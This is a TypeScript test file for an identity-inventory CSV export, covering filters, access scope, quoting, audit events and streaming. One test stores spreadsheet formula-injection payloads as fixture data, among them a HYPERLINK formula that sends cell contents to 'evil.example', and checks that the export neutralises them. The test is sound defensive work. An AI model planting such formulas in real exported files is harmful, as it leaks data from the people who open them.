import { sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { queryRows } from "@/db";
import { actorOf, auditCount, curatedId, idsWhere, sortedIds, testDatabase, walkInventory } from "@/lib/testing";
import type { Actor } from "@/lib/auth/actor";
import { CSV_COLUMNS, exportIdentitiesCsv } from "./export";
import { listIdentities } from "./inventory";
import { parseInventoryFilter } from "./inventory-filter";

// The CSV export: everything the filter matches for the actor, quoted and guarded, and audited.

const conn = testDatabase({ identities: 400 });

/** RFC 4180: fields separated by commas, records by newlines, quotes doubled inside quoted fields. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = "";
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ",") {
      record.push(field);
      field = "";
    } else if (!quoted && c === "\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
    } else {
      field += c;
    }
  }
  if (field || record.length) throw new Error("the CSV does not end with a newline");
  return records;
}

async function exportCsv(actor: Actor, params: Record<string, string> = {}, batch?: number) {
  const { filename, stream } = await exportIdentitiesCsv(conn.db, actor, parseInventoryFilter(params), { batch });
  const text = await new Response(stream).text();
  const [header, ...rows] = parseCsv(text);
  const records = rows.map(
    (r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]!])) as Record<(typeof CSV_COLUMNS)[number], string>,
  );
  for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
  return { filename, text, header, records, ids: records.map((r) => r.id).sort() };
}

const setPurpose = (key: string, purpose: string) =>
  conn.db.execute(sql`UPDATE identities SET purpose = ${purpose} WHERE id = ${curatedId(key)}::uuid`);

describe("CSV export", () => {
  it("has the header and one line per identity in scope, for the whole estate", async () => {
    const sam = await actorOf(conn.db, "sam");
    const { filename, text, header, ids } = await exportCsv(sam);
    expect(text.split("\n")[0]).toBe(CSV_COLUMNS.join(","));
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(filename).toMatch(/^steward-identities-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(ids).toEqual(await idsWhere(conn.db, sql`true`));
  });

  it("exports exactly what the filter matches, whatever the sort, ignoring a page cursor", async () => {
    const sam = await actorOf(conn.db, "sam");
    const orphaned = await idsWhere(
      conn.db,
      sql`i.owner_id IS NULL OR i.owner_id IN (SELECT id FROM users WHERE status = 'departed')`,
    );
    expect((await exportCsv(sam, { state: "orphaned" })).ids).toEqual(orphaned);
    const prod = await idsWhere(conn.db, sql`i.environment = 'production' AND i.kind = 'api_key'`);
    expect((await exportCsv(sam, { env: "production", kind: "api_key", sort: "risk" })).ids).toEqual(prod);
    const first = await listIdentities(conn.db, sam, parseInventoryFilter({ size: "10" }), { withTotal: false });
    expect((await exportCsv(sam, { after: first.nextCursor! })).ids).toHaveLength(400);
  });

  it("respects the actor's scope: a member's export holds only what her inventory shows", async () => {
    const olivia = await actorOf(conn.db, "olivia");
    const { ids } = await exportCsv(olivia);
    expect(ids).toEqual(sortedIds(await walkInventory(conn.db, olivia)));
    expect(ids).toEqual(
      await idsWhere(
        conn.db,
        sql`i.team_id = ${olivia.teamId}::uuid OR i.owner_id = ${olivia.personId}::uuid OR i.backup_owner_id = ${olivia.personId}::uuid`,
      ),
    );
    expect(ids).not.toContain(curatedId("sam-security-scanner"));
  });

  it("each line carries the identity's values", async () => {
    const sam = await actorOf(conn.db, "sam");
    const { records } = await exportCsv(sam, { owner: "none" });
    const rows = await queryRows<{ id: string; name: string; status: string; risk_score: number; environment: string }>(
      conn.db,
      sql`SELECT id, name, status, risk_score, environment FROM identities WHERE owner_id IS NULL`,
    );
    expect(records).toHaveLength(rows.length);
    for (const r of rows) {
      expect(records.find((x) => x.id === r.id)).toMatchObject({
        name: r.name,
        status: r.status,
        environment: r.environment,
        risk_score: String(r.risk_score),
        owner: "",
        owner_departed: "false",
      });
    }
    const dan = (await exportCsv(sam, { q: "legacy-batch-loader" })).records;
    expect(dan).toHaveLength(1);
    expect(dan[0]).toMatchObject({
      name: "legacy-batch-loader",
      owner: "Dan Departed",
      owner_departed: "true",
      team: "Payments",
      privileged: "true",
      risk_top_factor: "orphaned",
    });
    expect(dan[0]!.states.split(" ")).toEqual(
      expect.arrayContaining(["orphaned", "dormant", "no_expiry", "review_overdue", "rotation_overdue"]),
    );
  });

  it("quotes commas, quotes and newlines so the text survives a round trip", async () => {
    const tricky = 'Loads statements, "nightly"\nand on demand; see runbook';
    await setPurpose("olivia-ledger-key", tricky);
    const { text, records } = await exportCsv(await actorOf(conn.db, "sam"), { q: "ledger-reconciler-key" });
    expect(records).toHaveLength(1);
    expect(records[0]!.purpose).toBe(tricky);
    expect(text).toContain('"Loads statements, ""nightly""\nand on demand; see runbook"');
  });

  it("neutralises cells that a spreadsheet would run as a formula", async () => {
    const formulas: [string, string][] = [
      ["olivia-alerts-bot", '=HYPERLINK("https://evil.example/?"&A1,"click")'],
      ["olivia-refund-worker", "+1+1"],
      ["olivia-fraud-agent", "-2+3 pays out"],
      ["olivia-payments-api", "@SUM(1,1)"],
    ];
    for (const [key, purpose] of formulas) await setPurpose(key, purpose);
    const { records } = await exportCsv(await actorOf(conn.db, "olivia"), { owner: "me" });
    for (const [key, purpose] of formulas)
      expect(records.find((r) => r.id === curatedId(key))!.purpose).toBe(`'${purpose}`);
    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);
  });

  it("records an identities.exported event with the filter, before the first byte is read", async () => {
    const ari = await actorOf(conn.db, "ari");
    const before = await auditCount(conn.db);
    const { stream } = await exportIdentitiesCsv(
      conn.db,
      ari,
      parseInventoryFilter({ state: "dormant", env: "production", riskMin: "30", sort: "risk" }),
    );
    expect(await auditCount(conn.db)).toBe(before + 1);
    const [event] = await queryRows<{ action: string; actor_label: string; after: { format: string; filter: string } }>(
      conn.db,
      sql`SELECT action, actor_label, after FROM audit_events ORDER BY seq DESC LIMIT 1`,
    );
    expect(event).toMatchObject({
      action: "identities.exported",
      actor_label: "ari.auditor@example.com",
      after: { format: "csv" },
    });
    expect(Object.fromEntries(new URLSearchParams(event!.after.filter))).toEqual({
      state: "dormant",
      env: "production",
      riskMin: "30",
      sort: "risk",
    });
    await stream.cancel();
  });
  it("the audited filter names privileged=0 when the export was of unprivileged identities only", async () => {
    const sam = await actorOf(conn.db, "sam");
    const { ids } = await exportCsv(sam, { privileged: "0" });
    expect(ids.length).toBeLessThan(400);
    const [event] = await queryRows<{ after: { filter: string } }>(
      conn.db,
      sql`SELECT after FROM audit_events WHERE action = 'identities.exported' ORDER BY seq DESC LIMIT 1`,
    );
    expect(new URLSearchParams(event!.after.filter).get("privileged")).toBe("0");
  });

  it("streams in keyset batches that join up exactly, whatever the sort", async () => {
    const sam = await actorOf(conn.db, "sam");
    const views: Record<string, string>[] = [
      {},
      { sort: "expires" },
      { sort: "lastUsed", dir: "desc" },
      { sort: "risk" },
    ];
    for (const params of views) {
      const whole = await exportCsv(sam, params);
      const batched = await exportCsv(sam, params, 7);
      expect(batched.text, JSON.stringify(params)).toBe(whole.text);
      expect(new Set(batched.ids).size).toBe(400);
    }
  });

  it("stops reading when the client goes away, and leaves nothing running", async () => {
    const sam = await actorOf(conn.db, "sam");
    const { stream } = await exportIdentitiesCsv(conn.db, sam, parseInventoryFilter({}), { batch: 5 });
    const reader = stream.getReader();
    expect(new TextDecoder().decode((await reader.read()).value)).toBe(CSV_COLUMNS.join(",") + "\n");
    expect(new TextDecoder().decode((await reader.read()).value).split("\n")).toHaveLength(6);
    await reader.cancel();
    if (conn.kind === "postgres") {
      const [running] = await queryRows<{ n: number }>(
        conn.db,
        sql`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid() AND state = 'active' AND query LIKE '%AS line%'`,
      );
      expect(running!.n).toBe(0);
    }
    // Its slot is free again: two more may run at once (a third would be refused).
    const more = [
      await exportIdentitiesCsv(conn.db, sam, parseInventoryFilter({})),
      await exportIdentitiesCsv(conn.db, sam, parseInventoryFilter({})),
    ];
    for (const m of more) await m.stream.cancel();
    expect(new Set((await exportCsv(sam)).ids).size).toBe(400);
  });
});
